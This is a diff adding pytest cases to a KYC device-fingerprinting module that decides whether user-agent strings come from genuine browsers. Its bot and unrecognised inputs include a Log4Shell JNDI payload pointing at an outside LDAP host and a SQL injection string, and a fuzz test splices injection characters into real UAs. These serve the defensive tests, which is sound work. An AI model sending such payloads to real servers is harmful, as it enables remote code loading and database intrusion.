@@ -9,6 +9,8 @@ from importlib import resources
 
 import crawleruseragents
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 from user_agents import parse as legacy_parse
 
 from kyc.signals.device import current_major, device_identifiers, device_signals, locale_region, timezone_country
@@ -142,3 +144,124 @@ def test_malformed_input_never_raises(junk):
 def test_device_identifier():
     assert device_identifiers("dv_1") == [("device", "dv_1")]
     assert device_identifiers(None) == device_identifiers("") == []
+
+
+# --- the positive model of a browser --------------------------------------------------------------
+
+JAN_2026 = datetime(2026, 1, 1, 12, tzinfo=timezone.utc)
+OLD_BUT_REAL = {
+    "Firefox ESR 115": "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:115.0) Gecko/20100101 Firefox/115.0",
+    "iPhone on iOS 12": "Mozilla/5.0 (iPhone; CPU iPhone OS 12_5_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
+                        "Gecko) Version/12.1.2 Mobile/15E148 Safari/604.1",
+    "iPad on iOS 9": "Mozilla/5.0 (iPad; CPU OS 9_3_5 like Mac OS X) AppleWebKit/601.1.46 (KHTML, like Gecko) "
+                     "Version/9.0 Mobile/13G36 Safari/601.1",
+    "Samsung smart TV": "Mozilla/5.0 (SMART-TV; Linux; Tizen 5.0) AppleWebKit/537.36 (KHTML, like Gecko) "
+                        "SamsungBrowser/2.2 Chrome/63.0.3239.84 TV Safari/537.36",
+    "LG smart TV": "Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/79.0.3945.79 "
+                   "Safari/537.36 WebAppManager",
+    "Chrome 109 pinned on Windows 7": "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+                                      "Chrome/109.0.0.0 Safari/537.36",
+    "Chromebook kiosk": "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) "
+                        "Chrome/103.0.0.0 Safari/537.36",
+    "Internet Explorer 11": "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
+    "legacy Edge": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+                   "Chrome/70.0.3538.102 Safari/537.36 Edge/18.19582",
+    "Opera Mini on a feature phone": "Opera/9.80 (J2ME/MIDP; Opera Mini/4.2.14912/870; U; id) Presto/2.4.15",
+    "Kindle Fire": "Mozilla/5.0 (Linux; Android 9; KFTRWI) AppleWebKit/537.36 (KHTML, like Gecko) Silk/124.4.1 like "
+                   "Chrome/124.0.6367.219 Safari/537.36",
+    "iOS 26 Safari (OS frozen at 18_6)": "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 "
+                                         "(KHTML, like Gecko) Version/26.0 Mobile/15E148 Safari/604.1",
+    "Facebook in-app browser": "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
+                               "like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/460.0.0.38.108;FBDV/iPhone14,5;FBSV/17.4]",
+}
+
+
+@pytest.mark.parametrize("name", sorted(OLD_BUT_REAL))
+def test_old_but_real_browsers_are_real_browsers(name):
+    facts = device_signals(OLD_BUT_REAL[name], None, at=JAN_2026)
+    assert facts["real_browser"] is True and "browser_mismatch" not in facts, name
+
+
+@pytest.mark.parametrize("ua, reason", [
+    # Safari's Version/ token on Windows: Apple's Safari runs on Apple systems only
+    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 "
+     "Safari/605.1.15", "os"),
+    # Blink on an iPhone: every iOS browser is WebKit (Chrome there says CriOS)
+    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/537.36 (KHTML, like Gecko) "
+     "Chrome/126.0.0.0 Mobile Safari/537.36", "engine"),
+    # Firefox whose rv: is not its version
+    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:91.0) Gecko/20100101 Firefox/128.0", "engine"),
+    # Safari 17 on an old WebKit build
+    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Version/17.4 "
+     "Safari/537.36", "engine"),
+    # iOS Safari whose version is not its iOS's
+    ("Mozilla/5.0 (iPhone; CPU iPhone OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
+     "Version/12.0 Mobile/15E148 Safari/604.1", "engine"),
+    # a build number Chrome 44 never had (a generator's random digits)
+    ("Mozilla/5.0 (Linux; Android 5.0; SM-G900P Build/LRX21T) AppleWebKit/537.36 (KHTML, like Gecko) "
+     "Chrome/44.0.5213.1363 Mobile Safari/537.36", "engine"),
+    # Chromium Edge on another Chromium
+    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/110.0.0.0 "
+     "Safari/537.36 Edg/124.0.0.0", "engine"),
+    # an iPhone without its Mobile token
+    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
+     "Version/17.5 Safari/604.1", "mobile"),
+    # Chrome 160 in January 2026 (Chrome 143 was current)
+    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/160.0.0.0 "
+     "Safari/537.36", "version"),
+])
+def test_browsers_whose_parts_do_not_fit_together(ua, reason):
+    facts = device_signals(ua, None, at=JAN_2026)
+    assert (facts["real_browser"], facts.get("browser_mismatch")) == (False, reason)
+
+
+@pytest.mark.parametrize("ua", [
+    # the unknown automation of issue 17, which no list kyc used named
+    "Node.js", "libredtail-http", "Datadog Agent/5.10.1", "Seobility", "Mozilla/5.0 (compatible; PhishBucketRust/1.0)",
+    "${jndi:ldap://198.51.100.7:1389/a}", "Dalvik/2.1.0 (Linux; U; Android 13; SM-A536B Build/TP1A.220624.014)",
+    "MyApp/3.2 CFNetwork/1410.0.3 Darwin/22.6.0", "Mozilla/5.0", "",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
+    "Safari/537.36' OR '1'='1",
+])
+def test_anything_that_is_no_recognised_browser_is_not_a_real_browser(ua):
+    facts = device_signals(ua, None, at=JAN_2026)
+    if not ua:
+        assert facts == {"ua_missing": True}
+        return
+    assert facts["real_browser"] is False and facts["browser_mismatch"] in ("unrecognised", "bot")
+
+
+def test_client_hints_that_disagree_make_it_no_real_browser():
+    honest = {"sec-ch-ua": '"Chromium";v="131", "Not_A Brand";v="24", "Google Chrome";v="131"',
+              "sec-ch-ua-platform": '"Windows"', "sec-ch-ua-mobile": "?0"}
+    assert device_signals(CHROME_WIN, None, client_hints=honest)["real_browser"] is True
+    lying = device_signals(CHROME_WIN, None, client_hints={**honest, "sec-ch-ua-platform": '"Linux"'})
+    assert (lying["real_browser"], lying["browser_mismatch"]) == (False, "hints")
+    headless = device_signals(CHROME_WIN, None, client_hints={"sec-ch-ua": '"HeadlessChrome";v="131"'})
+    assert (headless["real_browser"], headless["browser_mismatch"]) == (False, "bot")
+
+
+def test_every_browser_of_the_fake_useragent_corpus_parses_into_the_model():
+    # Every string gets a verdict and a reason when it is not a real browser.
+    for ua in REAL_UAS:
+        facts = device_signals(ua, None, at=JAN_2026)
+        assert isinstance(facts["real_browser"], bool)
+        assert facts["real_browser"] == ("browser_mismatch" not in facts)
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text(max_size=300))
+def test_generated_user_agents_never_raise_and_never_pass_without_a_browser_form(ua):
+    facts = device_signals(ua, None, at=JAN_2026)
+    if not ua:
+        assert facts == {"ua_missing": True}
+    elif not ua.startswith(("Mozilla/4.0 ", "Mozilla/5.0 ", "Opera/9.")):
+        assert facts["real_browser"] is False
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.sampled_from(sorted(OLD_BUT_REAL.values())),
+       st.text(alphabet="'\"<>{}$`\\", min_size=1, max_size=5), st.integers(min_value=0, max_value=400))
+def test_probe_characters_spliced_into_a_real_browser_make_it_unrecognised(ua, probe, at):
+    spliced = ua[:min(at, len(ua))] + probe + ua[min(at, len(ua)):]
+    assert device_signals(spliced, None, at=JAN_2026)["real_browser"] is False
